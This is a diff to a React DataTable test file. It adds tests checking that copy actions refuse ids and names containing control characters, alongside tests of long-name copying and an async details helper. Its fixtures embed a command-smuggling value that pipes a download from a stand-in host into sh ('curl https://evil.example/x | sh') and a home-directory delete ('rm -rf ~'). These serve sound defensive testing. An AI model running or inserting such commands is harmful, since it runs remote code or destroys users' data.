@@ -360,6 +360,55 @@ describe('DataTable', () => {
   })
 })
 
+describe('the row actions', () => {
+  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'
+  const LONG = `${'n'.repeat(999_990)} last word`
+
+  /** Focuses the first row and returns the table's one row-actions bar, once it has loaded. */
+  async function actionsOfFirstRow() {
+    const row = screen.getAllByRole('row')[1]!
+    act(() => row.focus())
+    const bar = await screen.findByRole('toolbar', { name: 'Row actions' })
+    await within(bar).findByRole('button', { name: 'Details' })
+    return bar
+  }
+
+  it('copy a cut name whole, saying "Copied" in the table’s one live region', async () => {
+    const user = userEvent.setup()
+    const build = realisticBuilds()[0]!
+    renderTable([{ ...build, name: LONG }], { column: 'name', direction: 'asc' })
+    const bar = await actionsOfFirstRow()
+    await user.click(
+      within(bar).getByRole('button', { name: 'Copy whole name (1,000,000 characters)' }),
+    )
+    const copied = await navigator.clipboard.readText()
+    expect(copied).toHaveLength(1_000_000)
+    expect(copied.endsWith(' last word')).toBe(true)
+    const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
+    const live = region.querySelectorAll('[aria-live]')
+    expect(live).toHaveLength(1)
+    expect(live[0]).toHaveTextContent(/^Copied$/)
+  })
+
+  it('refuse to copy an id or a cut name that holds control characters, saying why', async () => {
+    const user = userEvent.setup()
+    const build = realisticBuilds()[0]!
+    const name = `${'n'.repeat(300)}\nrm -rf ~\n`
+    renderTable([{ ...build, name, buildId: HOSTILE }], { column: 'name', direction: 'asc' })
+    const bar = await actionsOfFirstRow()
+    await navigator.clipboard.writeText('before')
+    // Named by the id's first block, its controls marked.
+    await user.click(within(bar).getByRole('button', { name: 'Copy Build ID b0⟨U+000A⟩curl' }))
+    await expect(navigator.clipboard.readText()).resolves.toBe('before')
+    expect(
+      within(bar).getByText(/^This id holds control characters \(U\+000A\), so it was not copied/),
+    ).toBeVisible()
+    await user.click(within(bar).getByRole('button', { name: /^Copy whole name/ }))
+    await expect(navigator.clipboard.readText()).resolves.toBe('before')
+    expect(within(bar).getByText(/^This name holds control characters \(U\+000A\)/)).toBeVisible()
+  })
+})
+
 describe('DataTable in a narrow container', () => {
   /** Renders the table in a container this wide (jsdom lays nothing out: see test/setup.ts). */
   function renderNarrow(width: number, sort: SortState = { column: 'created', direction: 'desc' }) {
@@ -381,10 +430,11 @@ describe('DataTable in a narrow container', () => {
    * jsdom has no popover API: the panel is found by the button's `popovertarget` and stays
    * closed, so its contents are queried as hidden (e2e/row-details.spec.ts opens it).
    */
-  function detailsOf(row: HTMLElement) {
+  async function detailsOf(row: HTMLElement) {
     act(() => row.focus())
     const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
-    const button = within(region).getByRole('button', { name: 'Details' })
+    // The row actions' own chunk loads on the first focus.
+    const button = await within(region).findByRole('button', { name: 'Details' })
     const panel = document.getElementById(button.getAttribute('popovertarget') ?? '')
     expect(panel).toHaveAttribute('popover', 'auto')
     // One set of actions for the table, outside the rows.
@@ -421,10 +471,10 @@ describe('DataTable in a narrow container', () => {
     for (const row of bodyRows()) expect(row).toHaveStyle({ height: '61px' })
   })
 
-  it("puts the ids and tags in the row's details, each labelled with its header", () => {
+  it("puts the ids and tags in the row's details, each labelled with its header", async () => {
     renderNarrow(300)
     const first = newest()
-    const details = detailsOf(bodyRows()[0]!)
+    const details = await detailsOf(bodyRows()[0]!)
     expect(details.name).toBe(`Details of ${first.name}`)
     // Every value of the row, those folded under the name too.
     expect(details.values).toEqual([
@@ -443,18 +493,18 @@ describe('DataTable in a narrow container', () => {
       }),
     ).toBeInTheDocument()
     const hotfix = screen.getByRole('row', { name: /^hotfix 1\.4\.2/ })
-    expect(detailsOf(hotfix).values[4]).toEqual(['Tags', 'version: 1.4.2channel: stable'])
+    expect((await detailsOf(hotfix)).values[4]).toEqual(['Tags', 'version: 1.4.2channel: stable'])
   })
 
-  it('keeps rows their normal height when only the ids and tags fold', () => {
+  it('keeps rows their normal height when only the ids and tags fold', async () => {
     renderNarrow(740)
     for (const row of bodyRows()) expect(row).toHaveStyle({ height: '41px' })
-    const labels = (row: HTMLElement) => detailsOf(row).values.map(([label]) => label)
+    const labels = async (row: HTMLElement) => (await detailsOf(row)).values.map(([label]) => label)
     const all = ['Name', 'Status', 'Size', 'Created', 'Tags', 'Build ID', 'Upload ID']
-    expect(labels(bodyRows()[0]!)).toEqual(all)
+    expect(await labels(bodyRows()[0]!)).toEqual(all)
     cleanup()
     renderNarrow(800)
-    expect(labels(bodyRows()[0]!)).toEqual(all)
+    expect(await labels(bodyRows()[0]!)).toEqual(all)
   })
 
   it('sorts by a folded column from the sort menu in the header row', async () => {
